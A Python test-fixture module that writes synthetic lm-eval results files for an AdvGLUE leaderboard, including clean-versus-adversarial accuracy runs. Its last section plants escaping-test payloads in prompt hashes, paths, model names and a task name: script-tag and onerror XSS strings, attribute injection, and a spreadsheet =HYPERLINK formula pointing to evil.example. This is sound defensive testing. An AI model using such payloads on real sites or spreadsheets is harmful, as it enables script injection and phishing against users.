"""Synthetic lm-eval output folders for leaderboard tests: what ``lm_eval --output_path`` writes.

``results_*.json`` with the ``results``, ``configs``, ``versions``, ``n-samples`` and ``config``
sections the leaderboard reads, for the six AdvGLUE tasks and their clean twins, with chosen
accuracies, standard errors and document counts (hand-computed expectations live in the tests).
"""

from __future__ import annotations

import json

TWINS = {"adv_sst2": "sst2", "adv_qqp": "qqp", "adv_mnli": "mnli", "adv_mnli_mismatched": "mnli_mismatch",
         "adv_qnli": "qnli", "adv_rte": "rte"}
CHOICES = {"sst2": 2, "qqp": 2, "mnli": 3, "mnli_mismatch": 3, "qnli": 2, "rte": 2}
# task -> (acc, stderr, documents)
STRONG = {"adv_sst2": (0.40, 0.04, 100), "adv_qqp": (0.50, 0.04, 100), "adv_mnli": (0.30, 0.06, 100),
          "adv_mnli_mismatched": (0.50, 0.06, 100), "adv_qnli": (0.60, 0.04, 100), "adv_rte": (0.45, 0.04, 20),
          "sst2": (0.90, 0.03, 100), "qqp": (0.80, 0.04, 100), "mnli": (0.70, 0.05, 100),
          "mnli_mismatch": (0.74, 0.05, 100), "qnli": (0.85, 0.04, 100), "rte": (0.65, 0.05, 100)}


def write_run(folder, accs, prompt=None, model="org/base-model", consistency=None):
    """One results file; ``consistency``: {adversarial task: top-2% overlap} as a skill_neurons section."""
    configs, results, samples = {}, {}, {}
    for task, (acc, se, n) in accs.items():
        clean = TWINS.get(task, task)
        meta = {"version": 1.0, **({"clean_twin": clean} if task in TWINS else {})}
        configs[task] = {"task": task, "doc_to_choice": [f"c{i}" for i in range(CHOICES[clean])], "metadata": meta}
        results[task] = {"alias": task, "acc,none": acc, "acc_stderr,none": se}
        samples[task] = {"original": n, "effective": n}
    results["advglue"] = {"alias": "advglue", "acc,none": 0.5}  # a group: no config, never a column
    config = {"model": "prompt_tuned" if prompt else "hf", "model_args": f"pretrained={model}" +
              (f",prompt={prompt}" if prompt else ""), "limit": None}
    if prompt:
        config.update(prompt_source=prompt, prompt_sha256=f"sha-{prompt}", pretrained=model)
    data = {"results": results, "configs": configs, "versions": {t: 1.0 for t in accs}, "n-samples": samples,
            "config": config, "lm_eval_version": "0.4.13", "transformers_version": "5.0"}
    if consistency:
        data["skill_neurons"] = {t: {"consistency": {"overlap": [{"fraction": 0.02, "mean": v}]}}
                                 for t, v in consistency.items()}
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "results_2026-01-01T00-00-00.json").write_text(json.dumps(data))


def write_three(root):
    """Three runs under ``root/runs``: "strong", "weak" (every accuracy 0.1 lower; both with skill-neuron
    consistency) and a no-prompt run of ``org/base-model`` without adv_rte, its clean accuracies 0.05 higher."""
    write_run(root / "runs" / "strong", STRONG, prompt="/p/strong", consistency={"adv_sst2": 0.30, "adv_rte": 0.10})
    weak = {t: (round(a - 0.1, 10), se, n) for t, (a, se, n) in STRONG.items()}
    write_run(root / "runs" / "weak", weak, prompt="/p/weak", consistency={"adv_sst2": 0.05})
    partial = {t: (round(a + 0.05, 10) if t in CHOICES else a, se, n) for t, (a, se, n) in STRONG.items()
               if t != "adv_rte"}
    write_run(root / "runs" / "partial", partial)
    return root / "runs"


# Hostile values for the escaping tests: each would run script, cut the page off, break a Markdown table
# or start a spreadsheet formula if written unescaped. A script that runs sets window.__pwned or the title.
HOSTILE_TASK = 't"]<img src=x onerror=window.__pwned=5>|=1+1'


def write_hostile(root):
    """Five runs under ``root/hostile`` whose prompt hashes, prompt paths, model names and one task name are
    payloads (the adversarial review's N1 and N16 among them); the last has a negative PDR."""
    runs = root / "hostile"
    entries = [  # (prompt_sha256, prompt_source, exact model or None, accuracy shift)
        # ranked 2nd and 3rd: unescaped, the first hash opened a script element that the second closed, and
        # the prompt path between them ran as code
        ("<script>`", "x)/;window.__pwned=1;`", None, 0.0),
        ("`//</script>", "<script>document.title='pwned'</script><img src=x onerror=window.__pwned=2>", None, -0.05),
        ("<script><!--", '" autofocus onfocus="window.__pwned=3" x="', None, -0.1),
        ("</script>", "a | b\n| c", '=HYPERLINK("http://evil.example/?x","click")', -0.15),
        (None, None, "<img src=x onerror=window.__pwned=4>", None),
    ]
    for i, (sha, source, model, shift) in enumerate(entries):
        folder = runs / f"run{i}"
        if shift is None:  # adversarial above clean: a negative drop rate
            accs = {t: (0.9 if t.startswith("adv_") else 0.6, se, n) for t, (_, se, n) in STRONG.items()}
        else:
            accs = {t: (round(a + shift, 10), se, n) for t, (a, se, n) in STRONG.items()}
        write_run(folder, accs, prompt=source, model=model or "org/base-model")
        path = next(folder.glob("results_*.json"))
        data = json.loads(path.read_text())
        if source is not None:  # the path in prompt_source only, as prompt_tuned records it
            data["config"].update(prompt_sha256=sha, prompt_source=source,
                                  model_args=f"pretrained={model or 'org/base-model'}")
        if model:
            data["config"]["pretrained"] = model
        if i == 0:  # a task of the run's own, named by the file
            data["results"][HOSTILE_TASK] = {"alias": HOSTILE_TASK, "acc,none": 0.75, "acc_stderr,none": 0.04}
            data["configs"][HOSTILE_TASK] = {"task": HOSTILE_TASK, "doc_to_choice": ["a", "b"],
                                             "metadata": {"version": "<b>1</b>"}}
            data["versions"][HOSTILE_TASK] = "<b>1</b>"
            data["n-samples"][HOSTILE_TASK] = {"original": 10, "effective": 10}
        path.write_text(json.dumps(data))
    return runs
